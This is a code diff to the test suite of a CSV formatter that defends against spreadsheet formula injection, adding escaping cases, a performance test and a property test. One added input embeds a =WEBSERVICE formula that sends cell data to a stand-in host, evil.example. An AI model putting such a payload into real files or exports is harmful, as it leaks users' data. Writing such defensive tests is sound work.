@@ -21,15 +21,25 @@ test.each([
   ['+1', "'+1"],
   ['-1', "'-1"],
   ['@SUM(A1)', "'@SUM(A1)"],
-  ['\t=1', "'\t=1"],
+  ['\t=1', `"'\t'=1"`],
   [' =1', "' =1"],
   ['＝1', "'＝1"],
   ['Engineer', 'Engineer'],
   ['a,b', '"a,b"'],
   ['say "hi"', '"say ""hi"""'],
   ['a\nb', '"a\nb"'],
+  ['Analyst; =WEBSERVICE("https://evil.example/"&A1)', '"Analyst; \'=WEBSERVICE(""https://evil.example/""&A1)"'],
+  ['Analyst\t@SUM(A1)', '"Analyst\t\'@SUM(A1)"'],
+  ['Asks for\n- SQL\n -WEBSERVICE(A1)\r\n+1', '"Asks for\n• SQL\n \'-WEBSERVICE(A1)\r\n\'+1"'],
+  ['3-5 years; well-paid = good', '"3-5 years; well-paid = good"'],
 ])('writes %j as %j', (text, cell) => {
   expect(formatCsv([[text]])).toBe(`\uFEFF${cell}\r\n`);
+});
+
+test('a long run of breaks costs no time', () => {
+  const start = performance.now();
+  formatCsv([[`a${'\n'.repeat(200_000)}${'; '.repeat(200_000)}${' '.repeat(200_000)}`]]);
+  expect(performance.now() - start).toBeLessThan(1_000);
 });
 
 describe('a CSV file', () => {
@@ -38,10 +48,11 @@ describe('a CSV file', () => {
     fc.assert(
       fc.property(fc.array(fc.array(cell, { minLength: 2, maxLength: 3 }), { minLength: 1 }), (rows) => {
         const read = parseCsv(formatCsv(rows));
-        expect(read.map((row) => row.map((text) => text.replace(/^'(?=\s*[=+\-@\r\n])/, '')))).toEqual(
-          rows.map((row) => row.map((text) => text.replace(/^'(?=\s*[=+\-@\r\n])/, ''))),
-        );
-        for (const text of read.flat()) expect(text).not.toMatch(/^\s*[=+\-@]/);
+        const unguard = (text: string) => text.replaceAll("'", '').replaceAll('•', '-');
+        expect(read.map((row) => row.map(unguard))).toEqual(rows.map((row) => row.map(unguard)));
+        for (const part of read.flat().flatMap((text) => text.split(/[;\t\r\n]/))) {
+          expect(part).not.toMatch(/^\s*[=+\-@]/);
+        }
       }),
     );
   });
